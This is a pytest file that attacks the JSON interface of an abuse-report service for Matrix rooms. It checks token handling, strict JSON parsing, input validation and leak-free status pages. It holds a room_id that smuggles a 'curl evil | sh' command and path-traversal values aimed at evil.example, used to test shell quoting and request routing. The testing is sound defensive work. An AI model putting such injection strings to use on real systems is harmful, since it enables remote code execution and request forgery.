"""The JSON interface, attacked as a stranger would."""

from __future__ import annotations

import json
import re
import shlex
from dataclasses import replace
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from starlette.testclient import TestClient

from nightlight.hazmat import base64url
from nightlight.model.case import Outcome, Policy
from nightlight.model.report import Category
from nightlight.web.api.status import StatusLinks, how_to_prove
from tests.world import World


def body(world: World, *events: str, **changes: Any) -> dict[str, Any]:
    messages = [{"event_id": e, "message_key": base64url.encode_urlsafe(world.key(e))} for e in events]
    values = {"room_id": world.room, "category": "grooming", "note": "a note", "language": "en", "messages": messages}
    return {**values, **changes}


def post(client: TestClient, world: World, value: Any, **headers: str) -> Any:
    token = world.homeserver.token_for(world.bob)
    return client.post("/v1/reports", json=value, headers={"Authorization": f"Bearer {token}", **headers})


def raw(client: TestClient, world: World, data: bytes, kind: str = "application/json") -> Any:
    token = world.homeserver.token_for(world.bob)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": kind}
    return client.post("/v1/reports", content=data, headers=headers)


def test_report_is_answered_with_its_verdicts_and_a_status_address(client: TestClient, world: World) -> None:
    answer = post(client, world, body(world, world.abusive))
    assert answer.status_code == 201
    receipt = answer.json()
    assert set(receipt) == {"report_id", "status_url", "messages"}
    (message,) = receipt["messages"]
    assert set(message) == {"event_id", "role", "verdict", "code", "explanation"}
    assert (message["event_id"], message["verdict"], message["code"]) == (world.abusive, "VERIFIED", "ok")
    again = post(client, world, body(world, world.abusive))
    assert (again.status_code, again.json()) == (200, receipt)


def test_status_address_tells_what_became_of_it(client: TestClient, world: World) -> None:
    receipt = post(client, world, body(world, world.abusive)).json()
    path = receipt["status_url"].removeprefix("https://nightlight.test")
    status = client.get(path).json()
    assert (status["state"], status["outcome"]) == ("in_review", None)
    (case,) = world.open_cases()
    world.desk.decide(case.case_id, "robin", Outcome.VIOLATION, Policy.CHILD_GROOMING, "secret reasoning", [])
    status = client.get(path).json()
    assert status["state"] == "decided"
    assert status["outcome"]["outcome"] == "violation"
    assert "secret reasoning" not in json.dumps(status)
    assert "robin" not in json.dumps(status)


def test_unverified_reporter_is_told_how_to_prove_it(client: TestClient, world: World) -> None:
    receipt = post(client, world, body(world, messages=[{"event_id": world.abusive}])).json()
    assert receipt["messages"][0]["verdict"] == "UNVERIFIABLE"
    status = client.get(receipt["status_url"].removeprefix("https://nightlight.test")).json()
    assert f"nightlight disclose --keys FILE --room '{world.room}' --event '{world.abusive}'" in status["how_to_prove"]


def test_an_id_that_is_a_command_stays_one_word_of_ours(world: World) -> None:
    report = replace(world.report(world.abusive, keys=False).report, room_id="!a'; curl evil | sh; '")
    text = how_to_prove(report, StatusLinks("https://nightlight.test", bytes(32)))
    command = text[text.index("nightlight disclose") : text.index(". Your keys stay")]
    assert shlex.split(command)[5] == report.room_id


def test_unverified_reporter_is_led_to_the_page_where_there_is_one(world: World) -> None:
    report = world.report(world.abusive, keys=False).report
    text = how_to_prove(report, StatusLinks("https://nightlight.test", bytes(32), disclosure_page=True))
    assert "nightlight disclose" not in text
    address = urlsplit(next(word for word in text.split() if word.startswith("https://")))
    assert (address.path, address.query) == ("/report", "")  # ids stay behind the #: no proxy logs them
    assert parse_qs(address.fragment) == {"room": [world.room], "event": [world.abusive]}


def test_status_address_cannot_be_guessed_from_the_report_id(client: TestClient, world: World) -> None:
    receipt = post(client, world, body(world, world.abusive)).json()
    path = receipt["status_url"].removeprefix("https://nightlight.test")
    good_token = path.rsplit("/", 1)[1]
    for token in ("", "x", good_token[:-1], good_token[:-1] + ("A" if good_token[-1] != "A" else "B"), "é"):
        assert client.get(path.rsplit("/", 1)[0] + "/" + token).status_code == 404
    assert client.get(f"/v1/reports/report_999999/{good_token}").status_code == 404


def test_homeserver_down_is_accepted_and_said(client: TestClient, world: World) -> None:
    world.homeserver.down = True
    answer = post(client, world, body(world, world.abusive))
    assert answer.status_code == 202
    assert answer.json()["messages"][0]["code"] == "pending_verification"
    path = answer.json()["status_url"].removeprefix("https://nightlight.test")
    assert client.get(path).json()["state"] == "pending_verification"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "json_malformed"),
        (b"{", "json_malformed"),
        (b"\xff\xfe{}", "json_not_utf8"),
        (b'{"category":"spam","category":"grooming"}', "json_duplicate_key"),
        (b"[" * 20_000, "json_too_deep"),
        (b'{"a":' * 17 + b"1" + b"}" * 17, "json_too_deep"),
        (b'{"note": NaN}', "json_malformed"),
        (b'{"note": "\\ud800"}', "json_malformed"),
        (b'{"note": ' + b"1" * 5000 + b"}", "json_malformed"),
        (b"[]", "report_malformed"),
        (b"null", "report_malformed"),
        (b'"text"', "report_malformed"),
        (b"{}", "report_malformed"),
    ],
)
def test_what_is_not_a_strict_json_report_is_refused(client: TestClient, world: World, data: bytes, code: str) -> None:
    answer = raw(client, world, data)
    assert (answer.status_code, answer.json()["code"]) == (400, code)
    assert answer.headers["content-type"] == "application/problem+json"


@pytest.mark.parametrize(
    "changes",
    [
        {"room_id": "not a room"},
        {"room_id": "!" + "x" * 300},
        {"room_id": "!a\n"},
        {"room_id": 7},
        {"category": "nonsense"},
        {"category": None},
        {"note": ["a"]},
        {"note": "a\x00b"},
        {"language": "not a language"},
        {"messages": "none"},
        {"messages": [{}]},
        {"messages": [{"event_id": "no dollar"}]},
        {"messages": [{"event_id": "$a", "session_key": "too much"}]},
        {"messages": [{"event_id": "$a"}, {"event_id": "$a"}]},
        {"unknown": 1},
    ],
)
def test_report_of_the_wrong_shape_is_refused_with_the_place(
    client: TestClient, world: World, changes: dict[str, Any]
) -> None:
    answer = post(client, world, body(world, world.abusive, **changes))
    assert (answer.status_code, answer.json()["code"]) == (400, "report_malformed")
    assert next(iter(changes)) in answer.json()["detail"]


@pytest.mark.parametrize(
    "key", ["", "AAAA", "A" * 42, "A" * 44, "A" * 42 + "B", "A" * 42 + "=", "+" * 43, "/" * 43, "é" * 43, "A" * 100_00]
)
def test_message_key_of_the_wrong_form_is_refused(client: TestClient, world: World, key: str) -> None:
    answer = post(client, world, body(world, messages=[{"event_id": world.abusive, "message_key": key}]))
    assert (answer.status_code, answer.json()["code"]) == (400, "message_key_malformed")


def test_too_long_a_note_and_too_many_messages_are_refused(client: TestClient, world: World) -> None:
    assert post(client, world, body(world, world.abusive, note="x" * 201)).json()["code"] == "note_too_long"
    many = [{"event_id": f"$e{number}"} for number in range(4)]
    assert post(client, world, body(world, messages=many)).json()["code"] == "too_many_messages"


def test_oversized_body_is_refused_before_it_is_read(client: TestClient, world: World) -> None:
    answer = raw(client, world, b" " * 65_537)
    assert (answer.status_code, answer.json()["code"]) == (413, "body_too_large")


def test_other_kinds_of_body_are_refused(client: TestClient, world: World) -> None:
    assert raw(client, world, b"{}", "text/plain").status_code == 415


@pytest.mark.parametrize(
    "header", [None, "", "Bearer", "Bearer ", "Basic abc", "Bearer a b", "Bearer " + "x" * 2000, "Bearer \xe9"]
)
def test_without_a_well_formed_token_nothing_is_taken(client: TestClient, world: World, header: str | None) -> None:
    headers = {} if header is None else {"Authorization": header.encode("latin-1")}
    answer = client.post("/v1/reports", json=body(world, world.abusive), headers=headers)  # type: ignore[arg-type]
    assert (answer.status_code, answer.json()["code"]) == (401, "invalid_token")
    assert "Bearer" in answer.headers["www-authenticate"]
    assert not any("openid" in request for request in world.homeserver.requests)


def test_forged_token_is_refused(client: TestClient, world: World) -> None:
    headers = {"Authorization": "Bearer forged"}
    assert client.post("/v1/reports", json=body(world, world.abusive), headers=headers).status_code == 401


def test_idempotency_key_is_honoured_and_bounded(client: TestClient, world: World) -> None:
    first = post(client, world, body(world, world.abusive), **{"Idempotency-Key": "k"})
    again = post(client, world, body(world, world.abusive), **{"Idempotency-Key": "k"})
    assert (again.status_code, again.json()["report_id"]) == (200, first.json()["report_id"])
    other = post(client, world, body(world, world.opening), **{"Idempotency-Key": "k"})
    assert (other.status_code, other.json()["code"]) == (422, "idempotency_key_reused")
    long = post(client, world, body(world, world.opening), **{"Idempotency-Key": "k" * 256})
    assert long.json()["code"] == "idempotency_key_malformed"


def test_no_request_goes_to_a_place_that_the_reporter_names(client: TestClient, world: World) -> None:
    hostile = {"event_id": "$x/../../../admin?@evil.example#", "message_key": None}
    post(client, world, body(world, messages=[hostile], room_id="!a:evil.example/../x"))
    # Whatever was named stays one quoted path segment of the configured homeserver.
    for request in world.homeserver.requests:
        path = request.split(" ", 1)[1]
        assert re.match(r"/_(matrix/federation/v1/openid|synapse/admin/v1/(rooms|fetch_event))", path)


def test_openapi_names_every_route_field_and_value(client: TestClient) -> None:
    document = client.get("/openapi.json").json()
    report = document["components"]["schemas"]["ReportBody"]
    assert set(report["properties"]) == {"room_id", "category", "note", "language", "messages"}
    assert set(document["components"]["schemas"]["Category"]["enum"]) == {category.value for category in Category}
    operation = document["paths"]["/v1/reports"]["post"]
    assert {"200", "201", "202", "400", "401", "413", "422", "429", "503"} <= set(operation["responses"])
    assert operation["security"] == [{"MatrixOpenID": []}]


def test_every_answer_carries_the_safe_headers(client: TestClient) -> None:
    for path in ("/openapi.json", "/health", "/nowhere", "/v1/reports/a/b"):
        headers = client.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in headers["content-security-policy"]
        assert headers["cache-control"] == "no-store"


def test_unknown_addresses_and_methods_are_refused_in_one_form(client: TestClient) -> None:
    assert client.get("/nowhere").json()["code"] == "not_found"
    wrong = client.delete("/v1/reports")
    assert (wrong.status_code, wrong.json()["code"]) == (405, "method_not_allowed")


def test_store_that_is_down_accepts_nothing_and_says_so(client: TestClient, world: World) -> None:
    with world.store.engine.connect() as connection:
        connection.exec_driver_sql("ALTER TABLE reports RENAME TO reports_gone")
    answer = post(client, world, body(world, world.abusive))
    assert (answer.status_code, answer.json()["code"]) == (503, "store_unavailable")
    assert "reports_gone" not in answer.text
    assert "Retry-After" in answer.headers
